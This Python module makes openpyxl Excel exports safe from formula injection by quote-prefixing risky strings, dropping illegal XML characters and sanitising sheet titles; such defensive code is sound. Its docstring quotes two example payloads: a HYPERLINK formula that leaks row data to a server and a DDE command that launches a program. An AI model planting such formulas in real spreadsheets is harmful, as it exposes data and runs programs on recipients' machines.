"""Excel workbooks, written and read one way everywhere.

Writing (every export goes through `new_workbook`): text is written as text, never as a formula. A cell of
an exported list holds what someone typed (a resident's name, a ledger note), and openpyxl turns any string
starting with "=" into a formula: a name like `=HYPERLINK("http://…"&J2,"点此")` would leak the row to a
server when clicked, `=cmd|'/c calc'!A0` would start a program (DDE). So text that begins with "=", "+",
"-", "@", a tab or a carriage return (OWASP, CSV/formula injection) is written as a string cell with the
`quotePrefix` style: exactly what Excel does when a clerk types `'=…`. Excel, WPS and LibreOffice show the
text as typed, with no visible apostrophe, and keep it text when the cell is edited; the file reads back with
the same text (the ledger import takes its own exports back). Numbers, dates and booleans stay what they
are (a negative number is a number). Strings Excel would take for an error value ("#N/A") are text too, and
characters XML cannot hold (NUL and other C0 controls but tab, LF, CR) are dropped instead of failing the
whole export."""

from __future__ import annotations

import re

from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# ---------------------------------------------------------------------------------------------- writing

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
_ERROR_CODES = frozenset(ERROR_CODES)


def _risky(value: str) -> bool:
    return value[:1] in FORMULA_TRIGGERS or value in _ERROR_CODES or ILLEGAL_CHARACTERS_RE.search(value)


def escape(cell: Cell) -> Cell:
    """`cell` made safe in place: a string is stored as a string (quote-prefixed if it starts like a
    formula); anything else is left as it is."""
    value = cell.value
    if not isinstance(value, str):
        return cell
    if ILLEGAL_CHARACTERS_RE.search(value):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.value = value
    if cell.data_type != "s":  # openpyxl made it a formula ("=…") or an error value ("#N/A")
        cell.data_type = "s"
    if value[:1] in FORMULA_TRIGGERS:
        cell.quotePrefix = True
    return cell


def cell(sheet, value, *, font=None, alignment=None, number_format: str | None = None) -> Cell:
    """A styled cell for a write-only sheet's `append` (a header in bold, money with its format), escaped."""
    c = Cell(sheet, row=1, column=1, value=_clean(value))
    if font is not None:
        c.font = font
    if alignment is not None:
        c.alignment = alignment
    if number_format is not None:
        c.number_format = number_format
    return escape(c)


def _clean(value):
    if isinstance(value, str) and ILLEGAL_CHARACTERS_RE.search(value):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def escaped(sheet, row) -> list:
    """The values of one row, the risky strings replaced by escaped cells; other values untouched."""
    row = list(row)
    for i, value in enumerate(row):
        if value.__class__ is str:
            if value and _risky(value):
                row[i] = escape(Cell(sheet, row=1, column=1, value=_clean(value)))
        elif isinstance(value, Cell):
            escape(value)
    return row


class SafeWriteOnlyWorksheet(WriteOnlyWorksheet):
    """A write-only sheet whose rows are escaped as they are appended (the only way to write one)."""

    def append(self, row):
        if isinstance(row, dict):  # openpyxl refuses these in write-only mode; let it say so
            return super().append(row)
        return super().append(escaped(self, row))


_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")
SHEET_TITLE_MAX = 31


def sheet_title(text: str | None) -> str | None:
    """A sheet title Excel accepts made of `text` (a committee's name may hold "/"): the characters it forbids
    replaced, no apostrophe at either end, at most 31 characters."""
    if text is None:
        return None
    title = _TITLE_FORBIDDEN.sub("_", ILLEGAL_CHARACTERS_RE.sub("", text))[:SHEET_TITLE_MAX].strip("'")
    return title or None


class SafeWorkbook(Workbook):
    """openpyxl's Workbook whose text is never a formula: write-only sheets escape each appended row;
    a normal workbook (small reports, the import template) escapes every cell when it is saved, however the
    cell was set (`append`, `sheet["A1"] = …`, `sheet.cell(...)`). Sheet titles are made ones Excel takes."""

    def create_sheet(self, title=None, index=None):
        title = sheet_title(title)
        if not self.write_only:
            return super().create_sheet(title, index)
        sheet = SafeWriteOnlyWorksheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename):
        if not self.write_only:
            for sheet in self.worksheets:
                # _cells holds the cells that exist; iter_rows() would create every empty one of the range.
                for c in sheet._cells.values():
                    if isinstance(c.value, str):
                        escape(c)
        return super().save(filename)


def new_workbook(*, write_only: bool = True) -> SafeWorkbook:
    """The one way the project creates a workbook to write (tests/core/test_xlsx.py keeps it so)."""
    return SafeWorkbook(write_only=write_only)
